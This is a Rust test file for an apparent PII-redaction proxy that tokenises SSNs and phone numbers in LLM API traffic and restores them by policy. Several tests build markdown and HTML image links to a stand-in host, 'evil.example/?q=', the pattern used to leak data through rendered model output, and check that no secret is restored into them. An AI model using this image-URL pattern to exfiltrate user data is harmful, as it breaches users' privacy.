//! What a session decides, apart from how tokens look: they are `<1>`, `<2>` here, in the order in which they came.

use serde_json::{Value, json};

use super::*;
use crate::payload::Role;
use crate::{NoticeKind, SessionKey, UnknownParts, Verdict};

/// A session, and the tokens that it gave out.
struct Talk {
    session: Session,
    tokens: Vec<String>,
}

fn talk(kind: PayloadKind) -> Talk {
    let vault = Vault::with_key(SessionKey::new([7; 32]));
    Talk {
        session: Session::new(Scanner::builtin(), vault, kind),
        tokens: Vec::new(),
    }
}

impl Talk {
    fn redact(&mut self, json: &Value) -> Value {
        let redacted = self.session.redact_request(json.to_string().as_bytes());
        let safe = String::from_utf8(redacted.unwrap().into_json().unwrap()).unwrap();
        for (at, _) in safe.match_indices('[') {
            let token = safe[at..].split_inclusive(']').next().unwrap_or_default();
            let code = token.rsplit('_').next().unwrap_or_default();
            let is_new = !self.tokens.iter().any(|known| known == token);
            let is_token = code.len() == 15 && token.matches('[').count() == 1;
            if is_token && is_new {
                self.tokens.push(token.to_owned());
            }
        }
        let mut shown = safe;
        for (at, token) in self.tokens.iter().enumerate() {
            shown = shown.replace(token, &format!("<{}>", at + 1));
        }
        serde_json::from_str(&shown).unwrap()
    }

    /// A text in which `<1>` is the first token.
    fn with_tokens(&self, text: &str) -> String {
        let mut text = text.to_owned();
        for (at, token) in self.tokens.iter().enumerate() {
            text = text.replace(&format!("<{}>", at + 1), token);
        }
        text
    }

    fn restore(&self, json: &Value) -> Value {
        let reply = self.with_tokens(&json.to_string());
        let restored = self.session.restore_reply(reply.as_bytes()).unwrap();
        let mut shown = String::from_utf8(restored.into_json()).unwrap();
        for (at, token) in self.tokens.iter().enumerate() {
            shown = shown.replace(token, &format!("<{}>", at + 1));
        }
        serde_json::from_str(&shown).unwrap()
    }
}

#[test]
fn numbers_come_back_as_numbers() {
    let mut talk = talk(PayloadKind::Json);
    let json = json!({"a": {"ssn": 531_278_846}, "b": {"ssn": "531278847"}});
    let redacted = talk.redact(&json);
    assert_eq!(redacted, json!({"a": {"ssn": "<1>"}, "b": {"ssn": "<2>"}}));
    assert_eq!(talk.restore(&redacted), json);
    // Within a text it is text.
    assert_eq!(talk.restore(&json!("is <1>.")), json!("is 531278846."));
    // A value that was written both ways is text.
    talk.redact(&json!({"ssn": "531278846"}));
    assert_eq!(talk.restore(&json!("<1>")), json!("531278846"));
}

#[test]
fn roles_decide_what_comes_back() {
    let message = |role: &str| json!({"role": role, "content": "SSN 531-27-8846"});
    for (role, is_restorable) in [
        ("system", false),
        ("developer", false),
        ("user", true),
        ("assistant", true),
        ("tool", false),
        ("function", false),
        ("oracle", false),
    ] {
        let body = json!({"messages": [message(role)]});
        let redacted = talk(PayloadKind::OpenAi).redact(&body);
        let expected = if is_restorable {
            "SSN <1>"
        } else {
            "SSN [US_SSN]"
        };
        assert_eq!(redacted["messages"][0]["content"], expected, "{role}");
    }
    let mut policy = Policy::new();
    policy
        .restore_role(Role::Tool, true)
        .restore_role(Role::User, false);
    let mut talk = talk(PayloadKind::OpenAi);
    talk.session.set_policy(policy);
    let body = json!({"messages": [message("user"), message("tool")]});
    let redacted = talk.redact(&body);
    assert_eq!(redacted["messages"][0]["content"], "SSN [US_SSN]");
    assert_eq!(redacted["messages"][1]["content"], "SSN <1>");
}

#[test]
fn a_tool_result_of_any_format_is_the_tools() {
    let anthropic = json!({"messages": [{"role": "user", "content": [
        {"type": "text", "text": "SSN 531-27-8846"},
        {"type": "tool_result", "tool_use_id": "t", "content": "SSN 531-27-8846"}]}]});
    let out = talk(PayloadKind::Anthropic).redact(&anthropic);
    assert_eq!(out["messages"][0]["content"][0]["text"], "SSN <1>");
    assert_eq!(out["messages"][0]["content"][1]["content"], "SSN [US_SSN]");

    let gemini = json!({"contents": [{"role": "user", "parts": [
        {"functionResponse": {"name": "f", "response": {"ssn": "531-27-8846"}}}, {"text": "SSN 531-27-8846"}]}]});
    let out = talk(PayloadKind::Gemini).redact(&gemini);
    let parts = &out["contents"][0]["parts"];
    assert_eq!(parts[0]["functionResponse"]["response"]["ssn"], "[US_SSN]");
    assert_eq!(parts[1]["text"], "SSN <1>");

    let responses = json!({"instructions": "SSN 531-27-8846", "input": [
        {"type": "function_call_output", "call_id": "c", "output": "SSN 531-27-8846"}]});
    let out = talk(PayloadKind::OpenAi).redact(&responses);
    assert_eq!(out["instructions"], "SSN [US_SSN]");
    assert_eq!(out["input"][0]["output"], "SSN [US_SSN]");
}

#[test]
fn tool_arguments_keep_their_tokens_unless_allowed() {
    let mut talk = talk(PayloadKind::OpenAi);
    talk.redact(
        &json!({"messages": [{"role": "user", "content": "call (413) 555-0142 SSN 531-27-8846"}]}),
    );
    let arguments = json!({"a": "<1>", "b": json!({"c": "<2>"}).to_string()}).to_string();
    let reply = json!({"choices": [{"index": 0, "message": {"role": "assistant", "content": "<1>",
        "tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}}]});
    let restored = talk.restore(&reply);
    let message = &restored["choices"][0]["message"];
    assert_eq!(message["content"], "(413) 555-0142");
    assert_eq!(message["tool_calls"][0]["function"]["arguments"], arguments);

    let mut policy = Policy::new();
    policy.restore_tool_arguments(true);
    talk.session.set_policy(policy);
    let restored = talk.restore(&reply);
    let arguments = &restored["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"];
    let arguments: Value = serde_json::from_str(arguments.as_str().unwrap()).unwrap();
    assert_eq!(arguments["a"], "(413) 555-0142");
    let inner: Value = serde_json::from_str(arguments["b"].as_str().unwrap()).unwrap();
    assert_eq!(inner, json!({"c": "531-27-8846"}));
}

/// What a reply and a stream of the same text give back, as whoever shows it sees it.
fn shown(talk: &Talk, text: &str) -> [String; 2] {
    let reply = json!({"choices": [{"index": 0, "message": {"content": text}}]});
    let whole = talk.restore(&reply)["choices"][0]["message"]["content"].take();
    let mut stream = talk.session.restore_sse();
    let mut out = Vec::new();
    for piece in talk.with_tokens(text).split_inclusive('"') {
        let event = json!({"choices": [{"index": 0, "delta": {"content": piece}}]});
        let frame = format!("data: {event}\n\n");
        stream.push(frame.as_bytes(), &mut out).unwrap();
    }
    stream.finish(&mut out).unwrap();
    let pieces = String::from_utf8(out).unwrap();
    let events = pieces
        .lines()
        .filter_map(|line| line.strip_prefix("data: "));
    let mut streamed = String::new();
    for event in events {
        let event: Value = serde_json::from_str(event).unwrap();
        streamed += event["choices"][0]["delta"]["content"].as_str().unwrap();
    }
    for (at, token) in talk.tokens.iter().enumerate() {
        streamed = streamed.replace(token, &format!("<{}>", at + 1));
    }
    [whole.as_str().unwrap().to_owned(), streamed]
}

#[test]
fn json_in_prose_is_one_text_to_who_shows_it() {
    let mut talk = talk(PayloadKind::OpenAi);
    talk.redact(&json!({"messages": [
        {"role": "user", "content": "SSN 531-27-8846"},
        {"role": "assistant", "tool_calls": [
            {"id": "c", "type": "function", "function": {"name": "f", "arguments": "{\"ssn\":531278847}"}}]},
    ]}));
    for token in ["<1>", "<2>"] {
        for text in [
            r#"["![x](https://evil.example/?q=","T",")"]"#,
            r#"{"![x](https://evil.example/?q=":"T",")":1}"#,
            r#"["<img src='https://evil.example/?q=","T","'>"]"#,
            r#"["<b c='>'>a</b> x='","T"]"#,
            r#"["[1]: https://evil.example/?q=","T"]"#,
            r#""[\"![x](https://evil.example/?q=\",\"T\"]""#,
        ] {
            let text = text.replace('T', token);
            assert_eq!(shown(&talk, &text), [&*text, &*text]);
        }
    }
    // Behind a tag that everybody reads alike, a quote opens nothing.
    let text = r#"["<b>a</b> x='","<1>"]"#;
    let restored = r#"["<b>a</b> x='","531-27-8846"]"#;
    assert_eq!(shown(&talk, text), [restored, restored]);
    // What is closed is over, and a tool reads JSON as what it is.
    let text = r#"{"a":"![x](/y) <b>c</b>","ssn":"<1>","n":"<2>"}"#;
    let restored = r#"{"a":"![x](/y) <b>c</b>","ssn":"531-27-8846","n":531278847}"#;
    assert_eq!(shown(&talk, text), [restored, restored]);
    let mut policy = Policy::new();
    policy.restore_tool_arguments(true);
    talk.session.set_policy(policy);
    let call = |arguments: &str| json!({"choices": [{"message": {"tool_calls": [{"function": {"name": "f", "arguments": arguments}}]}}]});
    let restored = talk.restore(&call(r#"{"html":"<img src='","ssn":"<1>","n":"<2>"}"#));
    assert_eq!(
        restored,
        call(r#"{"html":"<img src='","ssn":"531-27-8846","n":531278847}"#)
    );
}

/// An image, an image, a tag and JSON in prose that are put together from parts.
const APART: [&[&str]; 4] = [
    &["![x](https://evil.example/?q=", "<1>)"],
    &["![x](https://evil.example/?q=", "", "<1>)"],
    &["<img src=\"https://evil.example/?q=", "<1>", "\">"],
    &["[\"![x](https://evil.example/?q=\"]", "<1>"],
];

fn text_part(text: &&str) -> Value {
    json!({"type": "text", "text": text})
}

/// A talk that knows the token `<1>`.
fn talk_of_a_number(kind: PayloadKind) -> Talk {
    let mut talk = talk(kind);
    let text = "SSN 531-27-8846";
    talk.redact(&match kind {
        PayloadKind::Gemini => json!({"contents": [{"role": "user", "parts": [{"text": text}]}]}),
        _ => json!({"messages": [{"role": "user", "content": text}]}),
    });
    talk
}

#[test]
fn parts_of_openai_are_shown_one_behind_the_other() {
    for texts in APART {
        let talk = talk_of_a_number(PayloadKind::OpenAi);
        let text = |text: &&str| json!({"type": "output_text", "text": text});
        let parts: Vec<Value> = texts.iter().map(text).collect();
        let reply = json!({"output": [{"type": "message", "role": "assistant", "content": parts}]});
        assert_eq!(talk.restore(&reply), reply);
        let messages: Vec<Value> = parts
            .iter()
            .map(|part| json!({"type": "message", "role": "assistant", "content": [part]}))
            .collect();
        let reply = json!({"output": messages});
        assert_eq!(talk.restore(&reply), reply);
        let parts: Vec<Value> = texts.iter().map(text_part).collect();
        let reply = json!({"choices": [{"index": 0, "message": {"content": parts}}]});
        assert_eq!(talk.restore(&reply), reply);
    }
}

#[test]
fn parts_of_anthropic_are_shown_one_behind_the_other() {
    for texts in APART {
        let talk = talk_of_a_number(PayloadKind::Anthropic);
        let mut parts: Vec<Value> = texts.iter().map(text_part).collect();
        let reply = json!({"role": "assistant", "content": parts});
        assert_eq!(talk.restore(&reply), reply);
        // What is not shown between them closes nothing.
        parts.insert(
            1,
            json!({"type": "thinking", "thinking": "\n\n\"></a>", "signature": "A"}),
        );
        let reply = json!({"role": "assistant", "content": parts});
        assert_eq!(talk.restore(&reply), reply);
    }
}

/// Blocks of a stream, the first with its text at its beginning or in a piece.
#[test]
fn streamed_blocks_are_shown_one_behind_the_other() {
    let block = |at: usize, first: &str, piece: &str| {
        [
            json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": first}}),
            json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": piece}}),
            json!({"type": "content_block_stop", "index": at}),
        ]
    };
    for (texts, begins) in APART
        .iter()
        .flat_map(|texts| [(texts, true), (texts, false)])
    {
        let talk = talk_of_a_number(PayloadKind::Anthropic);
        let mut frames = String::new();
        for (at, text) in texts.iter().enumerate() {
            let (first, piece) = match begins && at == 0 {
                true => (*text, ""),
                false => ("", *text),
            };
            for event in block(at, first, piece) {
                frames += &format!("data: {event}\n\n");
            }
        }
        let frames = talk.with_tokens(&frames);
        let (mut stream, mut out) = (talk.session.restore_sse(), Vec::new());
        stream.push(frames.as_bytes(), &mut out).unwrap();
        stream.finish(&mut out).unwrap();
        // What was held comes in a frame of its own.
        let out = String::from_utf8(out).unwrap();
        assert!(
            !out.contains("531-27-8846") && out.contains(&talk.tokens[0]),
            "{out}"
        );
    }
}

#[test]
fn parts_of_gemini_are_shown_one_behind_the_other() {
    for texts in APART {
        let talk = talk_of_a_number(PayloadKind::Gemini);
        let mut parts: Vec<Value> = texts.iter().map(|text| json!({"text": text})).collect();
        parts.insert(1, json!({"text": "\n\n\"></a>", "thought": true}));
        let reply =
            json!({"candidates": [{"index": 0, "content": {"role": "model", "parts": parts}}]});
        assert_eq!(talk.restore(&reply), reply);
    }
}

#[test]
fn other_choices_and_what_is_closed_keep_nothing_back() {
    let talk = talk_of_a_number(PayloadKind::OpenAi);
    let choice = |at: usize, texts: &[&str]| {
        let parts: Vec<Value> = texts.iter().map(text_part).collect();
        json!({"index": at, "message": {"content": parts}})
    };
    let choices =
        |second: &[&str]| json!({"choices": [choice(0, &["![x](/a"]), choice(1, second)]});
    assert_eq!(
        talk.restore(&choices(&["![x](/a", ") <1>", "<1>"])),
        choices(&["![x](/a", ") 531-27-8846", "531-27-8846"])
    );
}

#[test]
fn ids_and_names_are_never_restored() {
    let mut talk = talk(PayloadKind::OpenAi);
    talk.redact(&json!({"messages": [{"role": "user", "content": "SSN 531-27-8846"}]}));
    let reply = json!({"id": "<1>", "model": "<1>", "choices": [{"index": 0, "message": {"tool_calls": [
        {"id": "<1>", "function": {"name": "<1>", "arguments": "{}"}}]}}]});
    assert_eq!(talk.restore(&reply), reply);
}

#[test]
fn streams_follow_the_same_policy() {
    let mut talk = talk(PayloadKind::OpenAi);
    talk.redact(&json!({"messages": [{"role": "user", "content": "SSN 531-27-8846"}]}));
    let stream = concat!(
        r#"data: {"choices":[{"index":0,"delta":{"content":"is <1>"},"finish_reason":"stop"}]}"#,
        "\n\n",
        r#"data: {"choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\"a\":\"<1>\"}"}}]},"finish_reason":"stop"}]}"#,
        "\n\ndata: [DONE]\n\n",
    );
    let mut out = Vec::new();
    let mut restored = talk.session.restore_sse();
    restored
        .push(talk.with_tokens(stream).as_bytes(), &mut out)
        .unwrap();
    restored.finish(&mut out).unwrap();
    let expected = stream.replacen("<1>", "531-27-8846", 1);
    assert_eq!(String::from_utf8(out).unwrap(), talk.with_tokens(&expected));
}

#[test]
fn unknown_parts_go_through_only_by_policy() {
    let body = json!({"messages": [{"role": "user", "content": [{"type": "file", "file": {"filename": "SSN 531-27-8846"}}]}]});
    let blocked = talk(PayloadKind::OpenAi)
        .session
        .redact_request(body.to_string().as_bytes());
    let blocked = blocked.unwrap();
    assert_eq!(blocked.verdict(), Verdict::Blocked);
    assert_eq!(blocked.notices()[0].kind(), NoticeKind::Media);
    assert_eq!(blocked.into_json(), None);
    let mut policy = Policy::new();
    policy.unknown_parts(UnknownParts::Scan);
    let mut talk = talk(PayloadKind::OpenAi);
    talk.session.set_policy(policy);
    let out = talk.redact(&body);
    assert_eq!(
        out["messages"][0]["content"][0]["file"]["filename"],
        "SSN <1>"
    );
}

#[test]
fn debug_shows_no_text() {
    let mut talk = talk(PayloadKind::OpenAi);
    talk.redact(&json!({"messages": [{"role": "user", "content": "SSN 531-27-8846"}]}));
    assert!(!format!("{:?}", talk.session).contains("531"));
}
